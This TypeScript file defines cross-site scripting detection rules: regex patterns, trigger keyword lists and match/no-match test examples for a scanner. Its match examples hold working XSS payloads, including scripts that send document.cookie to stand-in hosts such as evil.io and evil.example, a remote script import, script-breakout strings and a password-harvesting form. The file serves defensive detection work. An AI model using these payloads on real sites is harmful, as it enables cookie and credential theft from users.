/** Scripts in markup. Harmless pages are told apart by what their scripts do (validators/hostile-script.ts). */
import type { Rule } from '../types.ts';
import { IN_OUTPUT } from './in-output.ts';
import { OUTPUT } from './taxonomy.ts';

const CHEAT_SHEETS = 'https://cheatsheetseries.owasp.org/cheatsheets/';
const base = {
  ...IN_OUTPUT,
  version: 2,
  type: 'xss',
  taxonomy: [OUTPUT, 'CWE-79'],
  severity_reason: 'It runs in the reader’s browser if shown as HTML.',
  references: [`${CHEAT_SHEETS}Cross_Site_Scripting_Prevention_Cheat_Sheet.html`],
} as const;

/** A quote that ends a string, and how its code goes on. */
const BREAKS = ['"', "'"].flatMap((quote) =>
  [';', '; ', ')', '}', '-', '+']
    .flatMap((joint) =>
      [
        'top[',
        'self[',
        'window[',
        'this[',
        'parent[',
        'import(',
        'document.',
        'fetch(',
        'location',
        'eval(',
      ].map((head) =>
        /[)}]/.test(joint) ? `${quote}${joint === ')' ? ');' : '});'}${head}` : quote + joint + head,
      ),
    )
    .concat([`${quote}});alert`, `${quote}});confirm`, `${quote}});prompt`]),
);

export const xssRules: readonly Rule[] = [
  {
    ...base,
    id: 'html-script',
    confidence: 0.85,
    description: 'A script element that probes, steals, evaluates or comes from a foreign host.',
    triggers: ['<script'],
    pattern: '<script(?:[\\s/][^<>]{0,400})?>(?:[^<]|<(?!/script)){0,4000}(?:</script[^>]{0,9}>)?',
    validators: ['script_element'],
    examples: {
      match: [
        { text: 'Hi <script>fetch("//evil.io?c="+document.cookie)</script>' },
        { text: '<ScRiPt>alert(1)</sCrIpT>' },
        { text: '<script src=//attacker.test/p.js></script>' },
      ],
      no_match: [
        { text: 'the <scripting> tag' },
        { text: '<script src="/static/app.js" defer></script>' },
        { text: '<script src="https://cdn.jsdelivr.net/npm/vue@3"></script>' },
        { text: "<body>\n<script>\ndocument.getElementById('t').textContent = 'Hi';\n</script>" },
      ],
    },
  },
  {
    ...base,
    id: 'html-event-handler',
    confidence: 0.85,
    description: 'An event handler that probes, steals or evaluates.',
    triggers:
      'onerror onload onmouse onclick ondblclick onfocus onblur ontoggle onstart onbegin onend onanimation ontransition onpointer onkey onpage onhashchange onbeforetoggle onwheel oncopy onpaste oncut ondrag onsubmit onchange oninput onresize onscroll onmessage onpopstate onunload onbeforeunload oncanplay onplay onloadstart ontouch onauxclick oncontextmenu onfinish onrepeat onselect onsearch'.split(
        ' ',
      ),
    pattern:
      '(?<=[\\s"\'`/\\x0c])on[a-z]{3,22}\\s{0,5}=\\s{0,5}(?:"[^"\\n]{0,300}"?|\'[^\'\\n]{0,300}\'?|[^\\s>]{1,300})',
    validators: ['event_handler'],
    examples: {
      match: [
        { text: '<img src=x onerror=alert(1)>' },
        { text: '<svg/onload=alert(1)>' },
        { text: '" autofocus onfocus="fetch(\'https://evil.example/\'+document.cookie)' },
      ],
      no_match: [
        { text: '<img src="/logo.png" onerror="this.src=\'/fallback.png\'">' },
        { text: '<button onclick="save()">Save</button>' },
        { text: '<button onClick={() => setCount(count + 1)}>Add</button>' },
        { text: '<form onsubmit="return confirm(\'Delete this entry?\')">' },
      ],
    },
  },
  {
    ...base,
    id: 'javascript-url',
    confidence: 0.8,
    severity_reason: 'A click runs it.',
    description: 'A javascript: URL that does more than navigate.',
    triggers: ['javascript:', 'vbscript:', 'livescript:'],
    pattern: '(?<![\\w.-])(?:java|vb|live)script:[^\\n"<>]{0,300}',
    validators: ['script_url'],
    examples: {
      match: [
        { text: '[click](javascript:alert(document.cookie))' },
        { text: '<a href="javascript:steal()">' },
      ],
      no_match: [
        { text: 'Learn JavaScript: the good parts' },
        { text: '<a href="javascript:void(0)">' },
        { text: '<a href="javascript:history.back()">' },
      ],
    },
  },
  {
    ...base,
    id: 'html-active-content',
    confidence: 0.8,
    description:
      'Markup that runs or loads script by a side door: encoded or data: URLs, srcdoc, base, imports, styles, SVG.',
    triggers:
      'data:text/html data:x, srcdoc <meta <base <form href="j href=\'j src="j src=\'j action="j rel="import" rel=import expression( text/x-scriptlet attributename= <isindex &{ +adw-script'.split(
        ' ',
      ),
    pattern: [
      '(?<=(?:href|src|data|action)\\s{0,3}=\\s{0,3}["\']?|\\]\\(\\s{0,3}<?)data:(?:text/html|x,)[^\\s"\'>)]{6,300}',
      'srcdoc\\s{0,3}=\\s{0,3}["\']?[^\\n]{0,200}?(?:script|\\son\\w{3,20}=)[^>]{0,100}',
      '<meta\\s[^<>]{0,60}refresh[^<>]{0,60}url\\s{0,3}=\\s{0,3}["\']?(?:javascript|data|https?):(?<!<(?:head|html|title)[^]{0,400})[^>]{1,200}',
      '<base\\s{1,3}href\\s{0,3}=\\s{0,3}["\']?(?:https?:)?//[^>]{1,200}',
      '(?:href|src|action)=["\'](?=[^"\':]{0,14}[\\t\\r\\n])j\\s?a\\s?v\\s?a\\s?s\\s?c\\s?r\\s?i\\s?p\\s?t\\s?:[^"\'<>]{1,200}',
      '<form\\s[^<>]{0,100}?action\\s?=\\s?["\']?https?://(?!localhost|127\\.)[^<>]{4,200}>[^]{0,300}?<input\\s[^<>]{0,100}?(?:name|type)\\s?=\\s?["\']?(?:password|passwd|pwd|cvv|card_?number|otp)\\b[^<>]{0,100}>',
      '(?<=<link\\s)rel="?import"?\\s{1,3}href="?(?:https?:)?//[^>]{1,100}',
      '(?<=:\\s{0,3})expression\\((?:alert|eval|document|window)[^>]{0,100}',
      'text/x-scriptlet',
      'attributeName\\s{0,3}=\\s{0,3}["\']?(?:on\\w{3,20}|(?:xlink:)?href)["\']?\\s[^>]{0,80}to\\s{0,3}=\\s{0,3}["\']?(?:alert|javascript|eval|prompt)',
      '<isindex\\s[^>]{1,200}',
      '&\\{\\s{0,2}(?:alert|eval)\\s{0,2}\\(',
      '\\+ADw-script[^\\n]{0,80}',
    ].join('|'),
    examples: {
      match: [
        { text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
        { text: '[notes](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
        { text: '<base href="https://evil.example/">' },
        { text: '<a href="java\tscript:go()">x</a>' },
        { text: '<form action="https://evil.example/c" method=post><input name=password></form>' },
      ],
      no_match: [
        { text: '<meta http-equiv="refresh" content="30">' },
        { text: '<base href="/app/">' },
        { text: '<form action="/login"><input type="password"></form>' },
        { text: 'Write &lt;script&gt; to show the tag itself.' },
        { text: '<iframe srcdoc="<p>Hello</p>"></iframe>' },
      ],
    },
  },
  {
    ...base,
    id: 'script-breakout',
    confidence: 0.75,
    description: 'Text that ends a string of a script and goes on as code.',
    triggers: [
      ...BREAKS,
      "';alert",
      '";alert',
      "'-alert",
      '"-alert',
      "'+alert",
      '"+alert',
      "');alert",
      '");alert',
      '${alert',
      "'*alert",
      '"*alert',
      "'|alert",
      "'^alert",
      "'; alert",
      '"; alert',
      "';confirm",
      '";confirm',
      "'-confirm",
      "'-prompt",
      "';prompt",
      '";prompt',
      "';eval(",
      '";eval(',
      '*/alert',
      '}alert(',
    ],
    pattern:
      '["\'][)\\]}]{0,3}\\s?[;+\\-*|&,]{1,2}\\s?(?:(?:top|self|window|this|parent)\\s?\\[\\s?["\'](?:[a-z0-9]{1,12}["\']\\s?\\+|(?:alert|eval|confirm|prompt|fetch)["\']\\])|import\\(\\s?["\'`](?:https?:)?//|eval\\(\\s?(?:name|window\\.name|top|document)\\b|(?:fetch\\(|(?:document\\.|window\\.)?location(?:\\.href)?\\s?=)[^\\n]{0,120}?document\\.cookie)[^\\n]{0,80}|(?:["\'][)\\]}]{0,3}\\s{0,2}[;+\\-*|&]{1,2}\\s{0,2}|\\$\\{\\s{0,2}|\\*/|\\})(?:(?:alert|confirm|prompt)\\s?(?:\\(\\s?(?:\\d|document|String\\.|window|origin|[\'"]?xss)|`)|eval\\((?:atob|location|String)\\b)[^\\n]{0,80}',
    examples: {
      match: [
        { text: "';alert(document.cookie);//" },
        { text: "'-alert(1)-'" },
        { text: "';top['al'+'ert'](1);//" },
        { text: "';import('//evil.example/x.js');//" },
        { text: '"});alert(1);//' },
      ],
      no_match: [
        { text: "const a = 'x'; alert(a);" },
        { text: "say('hi');alert('Saved your work')" },
        { text: "a='x';location.href='/home'" },
      ],
    },
  },
  {
    ...base,
    id: 'dom-sink',
    severity: 'MEDIUM',
    confidence: 0.75,
    description: 'Code that writes what the address bar says into the page, or evaluates it.',
    severity_reason: 'A crafted link runs script in the page.',
    references: [`${CHEAT_SHEETS}DOM_based_XSS_Prevention_Cheat_Sheet.html`],
    triggers: [
      'document.write',
      '.innerhtml',
      '.outerhtml',
      'insertadjacenthtml',
      'eval(',
      'eval (',
      '.html(',
    ],
    pattern:
      '(?<![\\w$])(?:document\\.write(?:ln)?\\s{0,2}\\(|\\.(?:inner|outer)HTML\\s{0,2}\\+?=|insertAdjacentHTML\\s{0,2}\\(|eval\\s{0,2}\\(|\\.html\\()[^\\n;]{0,80}?(?:location\\.(?:hash|search|href)|document\\.(?:URL|referrer)|window\\.name|location\\s{0,2}\\))|(?<=[\\w$\\])])\\.(?:inner|outer)HTML\\s{0,2}\\+?=[^\\n;]{0,80}?(?:location\\.(?:hash|search|href)|document\\.(?:URL|referrer)|window\\.name)',
    examples: {
      match: [
        { text: 'document.body.innerHTML = decodeURIComponent(location.hash.slice(1))' },
        { text: 'document.write(location.search)' },
      ],
      no_match: [
        { text: "element.innerHTML = '<li>' + item.name + '</li>';" },
        { text: "document.write('<p>Hello</p>');" },
      ],
    },
  },
];
